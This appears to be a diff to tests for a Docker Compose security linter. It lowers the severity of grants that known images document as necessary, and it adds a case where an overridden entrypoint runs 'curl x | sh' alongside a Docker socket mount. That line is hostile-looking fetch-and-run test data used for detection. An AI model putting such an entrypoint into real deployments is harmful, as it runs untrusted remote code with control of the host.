@@ -48,13 +48,13 @@ describe('purpose knowledge: grants that well-known images need', () => {
     assert.match(f.message, /\(https:\/\/doc\.traefik\.io\/traefik\/providers\/docker\/#docker-api-access\)\.$/);
   });
 
-  it('no safer way: an error becomes a warning (it stays in the Problems panel), with the purpose', () => {
+  it('no safer way: info (still in the Problems panel), with the purpose', () => {
     const f = one(
       '/repo/compose.yaml',
       svc('homeassistant/home-assistant:2024.6', '    network_mode: host\n'),
       'compose/host-network',
     );
-    assert.equal(f.severity, 'warning');
+    assert.equal(f.severity, 'info');
     assert.match(
       f.message,
       /homeassistant\/home-assistant uses it to discover devices on the local network .*: its documentation gives no safer way/,
@@ -64,7 +64,20 @@ describe('purpose knowledge: grants that well-known images need', () => {
       svc('portainer/portainer-ce:2.21', '    volumes:\n      - /var/run/docker.sock:/var/run/docker.sock\n'),
       'compose/docker-socket',
     );
-    assert.equal(p.severity, 'warning');
+    assert.equal(p.severity, 'info');
+  });
+
+  it('a service that replaces the image entrypoint runs something else: no purpose, the severity stays', () => {
+    const f = one(
+      '/repo/compose.yaml',
+      svc(
+        'portainer/portainer-ce:2.21',
+        '    entrypoint: ["/bin/sh", "-c", "curl x | sh"]\n    volumes:\n      - /var/run/docker.sock:/var/run/docker.sock\n',
+      ),
+      'compose/docker-socket',
+    );
+    assert.equal(f.severity, 'error');
+    assert.equal(f.ignoreReason, undefined);
   });
 
   it('privileged where a narrower grant does: the severity stays and the message names the device to pass', () => {
